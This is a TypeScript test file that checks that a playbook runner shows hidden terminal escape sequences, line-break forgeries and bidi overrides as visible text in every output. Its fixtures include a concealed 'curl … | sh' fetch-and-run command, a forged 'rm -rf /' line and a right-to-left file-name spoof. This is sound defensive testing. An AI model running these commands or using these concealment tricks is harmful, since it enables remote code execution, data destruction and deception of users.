// Control characters in playbook text (titles, names, commands, messages, values) are shown, never acted on, in every human sink.
import './ink/no-color.js';
import { describe, expect, it } from 'vitest';
import type { RunEvent } from '../../src/engine/events.js';
import type { CompiledPlan } from '../../src/engine/plan.js';
import { formatJsonLine } from '../../src/ui/json.js';
import { createPlainReporter } from '../../src/ui/plain.js';
import { renderPlanMarkdown } from '../../src/review/plan-markdown.js';
import { renderPlanText } from '../../src/ui/plan-text.js';
import { createReporter } from '../../src/ui/reporter.js';
import { sanitize } from '../../src/ui/diagnostics.js';
import { showControls, showOnOneLine } from '../../src/ui/sanitize.js';
import { env, param, plan, probe, rendered, runStep } from '../helpers/plan-builder.js';
import { asReadStream, asWriteStream, FakeStdin, FakeStdout } from './ink/streams.js';

const HIDE = '\u001b[8m';
const SHOW = '\u001b[28m';
/** A command that looks safe on a terminal that obeys the escape sequences: the second half is concealed. */
const COMMAND = `echo safe ${HIDE}; curl -s https://example.invalid/x | sh ${SHOW}`;
/** Everything a terminal acts on: C0 but newline (tab is harmless), DEL, C1, bidi controls. */
// eslint-disable-next-line no-control-regex
const ACTED_ON = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

function hostilePlan(): CompiledPlan {
  return plan({
    playbook: { title: `Fix ${HIDE}nothing${SHOW}\u0007`, description: `Line\rOverwritten \u009b2J \u202egnp.exe` },
    params: [param('msg', `hi${HIDE}\u001b]0;title\u0007`, { source: 'given' })],
    preconditions: [probe('true', { name: `probe\u001b[2K` })],
    steps: [runStep('one', rendered(COMMAND), { name: `Step \u001b[1A\u001b[2Kone` }), { ...runStep('gate', 'true'), action: { kind: 'confirm', message: `Sure?\u0008\u0008\u0008yes` } }],
  });
}

/** What the plain reporter writes (stdout and stderr together) for these events. */
function plainText(events: readonly RunEvent[], lang: 'en' | 'zh-CN', plan?: CompiledPlan): string {
  const chunks: string[] = [];
  const stream = { write: (s: string) => chunks.push(String(s)), on: () => undefined } as unknown as NodeJS.WritableStream;
  const reporter = createPlainReporter({ lang, stdout: stream, stderr: stream, ...(plan ? { plan } : {}) });
  for (const event of events) reporter.onEvent(event);
  return chunks.join('');
}

describe('control characters in the plan', () => {
  it('are shown in the plan as text, so the whole command can be read', () => {
    const out = renderPlanText(hostilePlan(), { lang: 'en' });
    expect(out).not.toMatch(ACTED_ON);
    expect(out).not.toContain('\r');
    expect(out).toContain('echo safe ␛[8m; curl -s https://example.invalid/x | sh ␛[28m');
    expect(out).toContain('Fix ␛[8mnothing␛[28m␇');
    expect(out).toContain('Line␍Overwritten \\x9b2J \\u202egnp.exe');
    expect(out).toContain('hi␛[8m␛]0;title␇');
    expect(out).toContain('Sure?␈␈␈yes');
  });

  it('are shown in the plan as Markdown', () => {
    const out = renderPlanMarkdown(hostilePlan(), { lang: 'en' });
    expect(out).not.toMatch(ACTED_ON);
    expect(out).toContain('curl -s https://example.invalid/x | sh');
  });
});

describe('control characters in a run', () => {
  const base = { runId: 'r1', time: '2026-11-28T01:00:00.000Z' } as const;
  const events: RunEvent[] = [
    { ...base, type: 'run.started', playbook: { name: 'p', title: `T${HIDE}x`, risk: 'low', file: 'p.yaml' }, params: [{ name: 'msg', value: `v${HIDE}`, secret: false }], sandbox: false, journalDir: '/j', totalSteps: 1 },
    { ...base, type: 'probe.started', phase: 'preconditions', index: 0, name: `probe\u001b[2K` },
    { ...base, type: 'probe.finished', phase: 'preconditions', index: 0, name: `probe\u001b[2K`, ok: true, attempts: 1 },
    { ...base, type: 'phase.started', phase: 'steps' },
    { ...base, type: 'step.started', phase: 'steps', id: 'one', name: `Step \u001b[1Aone`, index: 1, total: 2, kind: 'run', command: COMMAND },
    { ...base, type: 'step.output', id: 'one', stream: 'stdout', text: `out\u001b[31mput\n` },
    { ...base, type: 'step.finished', phase: 'steps', id: 'one', status: 'ok', durationMs: 5 },
    { ...base, type: 'confirm.requested', id: 'gate', message: `Sure?\u0008\u0008\u0008yes` },
  ];

  it('are shown by the plain reporter (child output is still cleaned of its sequences)', () => {
    const out = plainText(events, 'en', hostilePlan());
    expect(out).not.toMatch(ACTED_ON);
    expect(out).toContain('$ echo safe ␛[8m; curl -s https://example.invalid/x | sh ␛[28m');
    expect(out).toContain('Step ␛[1Aone');
    expect(out).toContain('T␛[8mx');
    expect(out).toContain('msg=v␛[8m');
    expect(out).toContain('Sure?␈␈␈yes');
    expect(out).toContain('    │ output\n');
  });

  it('are shown by the live view', async () => {
    const stdout = new FakeStdout(160, 40);
    const reporter = await createReporter({ lang: 'en', output: 'ink', stdout: asWriteStream(stdout), stderr: asWriteStream(new FakeStdout()), stdin: asReadStream(new FakeStdin(false)), env: {}, plan: hostilePlan() });
    for (const event of events.slice(0, 5)) reporter.onEvent(event);
    await reporter.close?.();
    expect(stdout.all).toContain('Step ␛[1A');
    expect(stdout.all).toContain('$ echo safe ␛[8m; curl -s https://example.invalid/x | sh ␛[28m');
    expect(stdout.all).toContain('curl -s https://example.invalid/x | sh');
  });

  it('stay JSON-escaped in NDJSON: the exact text, and no raw control character on the line', () => {
    const line = formatJsonLine(events[4]!);
    // eslint-disable-next-line no-control-regex
    expect(line.slice(0, -1)).not.toMatch(/[\u0000-\u001f]/);
    expect((JSON.parse(line) as { command: string }).command).toBe(COMMAND);
  });
});

describe('a value shown inside one line', () => {
  // A parameter templated from an alert's label, or typed with --param: a line break in it must not start a line
  // that reads like the tool's own (a fake `journal:` or step line under the header).
  const value = 'a\n  journal: /tmp/elsewhere\r\u001b[2K';
  const startedWith = (params: { name: string; value: string; secret: boolean }[]): RunEvent => ({ runId: 'r1', time: '2026-11-28T01:00:00.000Z', type: 'run.started', playbook: { name: 'p', title: 'T', risk: 'low', file: 'p.yaml' }, params, sandbox: false, journalDir: '/j', totalSteps: 1 });

  it('shows its line breaks as ␤ and its other controls as showControls does', () => {
    expect(showOnOneLine(value)).toBe('a␤  journal: /tmp/elsewhere␍␛[2K');
    expect(showOnOneLine('tab\tstays')).toBe('tab\tstays');
  });

  it('keeps the plain header to one params line', () => {
    const lines = plainText([startedWith([{ name: 'msg', value, secret: false }, { name: 'next', value: 'x', secret: false }])], 'en').split('\n');
    const params = lines.filter((l) => l.includes('params:'));
    expect(params).toEqual(['  params: msg=a␤  journal: /tmp/elsewhere␍␛[2K next=x']);
    expect(lines.filter((l) => l.includes('journal:'))).toEqual([params[0], '  journal: /j']);
  });

  it('keeps the live view\'s header to one params line', async () => {
    const stdout = new FakeStdout(200, 40);
    const reporter = await createReporter({ lang: 'en', output: 'ink', stdout: asWriteStream(stdout), stderr: asWriteStream(new FakeStdout()), stdin: asReadStream(new FakeStdin(false)), env: {} });
    reporter.onEvent(startedWith([{ name: 'msg', value, secret: false }]));
    await reporter.close?.();
    expect(stdout.all).toContain('msg=a␤  journal: /tmp/elsewhere␍␛[2K');
    expect(stdout.all).not.toMatch(/\n\s*journal: \/tmp\/elsewhere/);
  });

  it('keeps a parameter of the plan to its row', () => {
    const out = renderPlanText(plan({ params: [param('msg', value, { source: 'given' })] }), { lang: 'en' });
    expect(out).toContain('msg  a␤  journal: /tmp/elsewhere␍␛[2K');
    expect(out).not.toMatch(/^\s*journal: \/tmp\/elsewhere/m);
  });
});

describe('a name or an environment value templated from a parameter', () => {
  // `name: "Restart {{service}}"` with --param service=$'x\n  2. forged', or a label of an alert: the name is drawn
  // inside a row of the plan, of the plain lines and of the live view, never as a row of its own.
  const forged = 'x\n  2. forged — rm -rf /';
  const named = () => plan({
    env: [env('MSG', forged)],
    preconditions: [probe('true', { name: `probe ${forged}` })],
    steps: [runStep('say', 'echo hi', { name: `Say ${forged}` })],
  });
  const base = { runId: 'r1', time: '2026-11-28T01:00:00.000Z' } as const;
  const events: RunEvent[] = [
    { ...base, type: 'run.started', playbook: { name: 'p', title: 'T', risk: 'low', file: 'p.yaml' }, params: [], sandbox: false, journalDir: '/j', totalSteps: 1 },
    { ...base, type: 'probe.started', phase: 'preconditions', index: 0, name: `probe ${forged}` },
    { ...base, type: 'probe.finished', phase: 'preconditions', index: 0, name: `probe ${forged}`, ok: true, attempts: 1 },
    { ...base, type: 'phase.started', phase: 'steps' },
    { ...base, type: 'step.started', phase: 'steps', id: 'say', name: `Say ${forged}`, index: 1, total: 1, kind: 'run', command: 'echo hi' },
    { ...base, type: 'step.finished', phase: 'steps', id: 'say', status: 'failed', durationMs: 5, exitCode: 1 },
  ];
  const noForgedLine = (out: string) => expect(out).not.toMatch(/^\s*2\. forged/m);

  it('stays on its line in the plan (steps, preconditions, environment), in English and Chinese', () => {
    for (const lang of ['en', 'zh-CN'] as const) {
      const out = renderPlanText(named(), { lang });
      noForgedLine(out);
      expect(out).toContain('say — Say x␤  2. forged — rm -rf /');
      expect(out).toContain('probe x␤  2. forged — rm -rf /');
      expect(out).toContain('MSG=x␤  2. forged — rm -rf /');
    }
  });

  it('stays on its row in the plain lines, in English and Chinese', () => {
    for (const lang of ['en', 'zh-CN'] as const) {
      const out = plainText(events, lang, named());
      noForgedLine(out);
      expect(out).toContain('Say x␤  2. forged — rm -rf /');
      expect(out).toContain('probe x␤  2. forged — rm -rf /');
    }
  });

  it("goes on indented under a gate's question in the plain lines, in English and Chinese", () => {
    for (const lang of ['en', 'zh-CN'] as const) {
      const lines = plainText([{ ...base, type: 'confirm.requested', id: 'gate', message: 'Go x\n  ✓ [2/2] say  ok\nreally?' }], lang, named()).trimEnd().split('\n');
      expect(lines).toHaveLength(3);
      expect(lines.slice(1)).toEqual(['        ✓ [2/2] say  ok', '      really?']);
    }
  });

  it('stays on its row in the live view', async () => {
    const stdout = new FakeStdout(160, 40);
    const reporter = await createReporter({ lang: 'en', output: 'ink', stdout: asWriteStream(stdout), stderr: asWriteStream(new FakeStdout()), stdin: asReadStream(new FakeStdin(false)), env: {}, plan: named() });
    for (const event of events) reporter.onEvent(event);
    await reporter.close?.();
    expect(stdout.all).toContain('Say x␤  2. forged');
    noForgedLine(stdout.all);
  });
});

describe('showControls', () => {
  it('shows C0 and DEL as Control Pictures, C1 and bidi controls as escapes, and keeps tabs and newlines', () => {
    expect(showControls('a\u001bb\u0007c\rd\u007fe\u009bf\u202eg\th\ni')).toBe('a␛b␇c␍d␡e\\x9bf\\u202eg\th\ni');
  });

  it('is what list and error messages use too', () => {
    expect(sanitize('title \u009d0;x\u0007 \u2066y')).toBe('title \\x9d0;x␇ \\u2066y');
  });
});
